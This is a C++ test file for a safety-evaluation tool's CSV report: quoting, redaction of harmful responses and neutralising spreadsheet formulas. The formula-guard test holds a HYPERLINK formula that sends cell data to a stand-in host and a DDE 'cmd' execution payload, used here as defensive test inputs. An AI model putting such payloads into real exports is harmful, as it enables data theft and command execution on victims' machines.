// Tests of the items CSV: one row per (item, verdict), RFC 4180 quoting, redaction.
#include <gtest/gtest.h>

#include "report/report.h"
#include "report/report_test_fixture.h"

namespace safeval {
namespace {

constexpr char kHeader[] =
    "id,category,intent,persona,techniques,outcome,class,violation,confidence,judge,error,"
    "response\r\n";

TEST(ItemsCsv, OneRowPerItemAndJudge) {
  ReportData data;
  ReportItem two = testing::FixtureItem("a-1", "ncr/fraud", Intent::kAdversarial,
                                        ResponseClass::kPartial, true, {"role_play", "base64"});
  two.prompt.persona = Persona::kSkilled;
  two.response = "plain";
  Verdict second = two.verdicts[0];
  second.judge_version = "";
  second.judge = "human:ana";
  second.cls = ResponseClass::kRefuses;
  second.violation = false;
  second.confidence = 1;
  two.verdicts.push_back(second);
  data.items.push_back(two);
  ReportItem error =
      testing::FixtureItem("e-1", "vcr", Intent::kHarmful, ResponseClass::kUndetermined, false);
  error.outcome = Outcome::kModelError;
  error.verdicts.clear();
  error.response.clear();
  error.error = "HTTP 503";
  data.items.push_back(error);
  ReportItem pending = error;
  pending.prompt.id = "p-1";
  pending.pending = true;
  pending.error.clear();
  data.items.push_back(pending);

  EXPECT_EQ(RenderItemsCsv(data),
            std::string(kHeader) +
                "a-1,ncr/fraud,adversarial,skilled,role_play;base64,judged,partial,true,0.750,"
                "rules@1,,plain\r\n"
                "a-1,ncr/fraud,adversarial,skilled,role_play;base64,judged,refuses,false,1.000,"
                "human:ana,,plain\r\n"
                "e-1,vcr,harmful,,,model_error,,,,,HTTP 503,\r\n"
                "p-1,vcr,harmful,,,pending,,,,,,\r\n");
}

TEST(ItemsCsv, QuotesFieldsAsRfc4180Says) {
  ReportData data;
  ReportItem item =
      testing::FixtureItem("q,1", "vcr", Intent::kHarmful, ResponseClass::kRefuses, false);
  item.response = "He said \"no\",\r\nthen left.\nEnd";
  item.error = "a\"b";
  data.items.push_back(item);
  std::string csv = RenderItemsCsv(data);
  EXPECT_EQ(csv.substr(std::string(kHeader).size()),
            "\"q,1\",vcr,harmful,,,judged,refuses,false,0.750,rules@1,\"a\"\"b\","
            "\"He said \"\"no\"\",\r\nthen left.\nEnd\"\r\n");
}

TEST(ItemsCsv, ReplacesInvalidUtf8AndShowsRedactedResponses) {
  ReportData data = testing::FixtureReportData(false);
  data.items[1].response = "bad \xff";
  RedactHarmfulResponses(4, &data);
  std::string csv = RenderItemsCsv(data);
  EXPECT_NE(csv.find("bad \xef\xbf\xbd\r\n"), std::string::npos);
  EXPECT_NE(csv.find(",Sure[redacted: 59 more characters]\r\n"), std::string::npos);
  EXPECT_EQ(csv.find("step-by-step"), std::string::npos);
}

TEST(ItemsCsv, GuardsCellsThatASpreadsheetWouldRunAsFormulas) {
  ReportData data;
  ReportItem item =
      testing::FixtureItem("=1+1", "vcr", Intent::kHarmful, ResponseClass::kRefuses, false);
  item.response = "=HYPERLINK(\"http://x.test/?\"&A1,\"click\")";
  item.error = "@SUM(A1)";
  data.items.push_back(item);
  ReportItem quoted = item;
  quoted.prompt.id = "-2";
  quoted.response = "\t+cmd|' /C calc'!A0";
  quoted.error = "'already";
  data.items.push_back(quoted);
  std::string csv = RenderItemsCsv(data);
  EXPECT_EQ(csv.substr(std::string(kHeader).size()),
            "'=1+1,vcr,harmful,,,judged,refuses,false,0.750,rules@1,'@SUM(A1),"
            "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"click\"\")\"\r\n"
            "'-2,vcr,harmful,,,judged,refuses,false,0.750,rules@1,''already,"
            "'\t+cmd|' /C calc'!A0\r\n");
}

TEST(ItemsCsv, EmptyRunIsTheHeader) { EXPECT_EQ(RenderItemsCsv(ReportData{}), kHeader); }

TEST(ItemsCsv, ItemByItemRowsAreTheRender) {
  ReportData data = testing::FixtureReportData(false);
  std::string streamed(ItemsCsvHeader());
  for (const ReportItem& item : data.items) AppendItemCsvRows(item, &streamed);
  EXPECT_EQ(streamed, RenderItemsCsv(data));
}

}  // namespace
}  // namespace safeval
